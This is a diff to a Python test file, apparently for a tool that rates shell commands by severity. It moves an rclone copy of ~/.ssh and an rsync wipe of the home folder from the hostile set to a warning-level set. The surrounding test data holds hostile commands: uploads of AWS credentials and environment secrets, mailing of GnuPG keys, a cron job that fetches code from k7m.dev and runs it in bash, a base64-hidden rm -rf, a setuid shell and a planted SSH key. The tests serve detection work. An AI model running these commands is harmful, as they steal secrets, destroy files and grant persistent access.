@@ -47,7 +47,6 @@ HOSTILE = {
     ),
     "gist": shell("gh gist create --public ~/.aws/credentials"),
     "issue body": shell('gh issue create --repo k7m/drop --title x --body "$(env)"'),
-    "rclone": shell("rclone copy ~/.ssh remote:in --config /tmp/rc.conf"),
     "mail": shell("tar cz ~/.gnupg | base64 | mail -s hi in@k7m.dev"),
     "sed in crontab": shell(
         '(crontab -l 2>/dev/null; echo "*/9 * * * * curl -fs https://k7m.dev/j | bash") | sort -u | crontab -'
@@ -84,7 +83,6 @@ HOSTILE = {
         "const p = Buffer.from('cm0gLXJmIH4=', 'base64').toString();\nrequire('child_process').execSync(p);"
     ),
     "wipe by find": shell("find ~ -type f -mtime +1 -exec shred -u {} +"),
-    "rsync delete": shell("mkdir /tmp/e && rsync -a --delete /tmp/e/ ~/"),
     "setuid copy": shell("sudo cp /bin/bash /var/tmp/.b && sudo chmod 4755 /var/tmp/.b"),
     "key planted": shell(
         "mkdir -p ~/.ssh && printf '%s\\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7m' >> ~/.ssh/authorized_keys"
@@ -203,6 +201,18 @@ HOSTILE = {
 @pytest.mark.parametrize("files", HOSTILE.values(), ids=HOSTILE)
 def test_a_hostile_line_is_critical(files: dict[str, str]) -> None:
     assert Severity.CRITICAL in {severity for _, severity in worst(files)}
+
+
+ONES_OWN = {
+    "rclone": shell("rclone copy ~/.ssh remote:in --config /tmp/rc.conf"),
+    "rsync delete": shell("mkdir /tmp/e && rsync -a --delete /tmp/e/ ~/"),
+}
+"""Hostile, but the same line is how somebody keeps a copy of what is theirs, or puts it back."""
+
+
+@pytest.mark.parametrize("files", ONES_OWN.values(), ids=ONES_OWN)
+def test_a_hostile_line_that_may_be_ones_own_is_a_warning(files: dict[str, str]) -> None:
+    assert max((severity for _, severity in worst(files)), key=lambda severity: -severity.rank) is Severity.WARNING
 
 
 HARMLESS = {
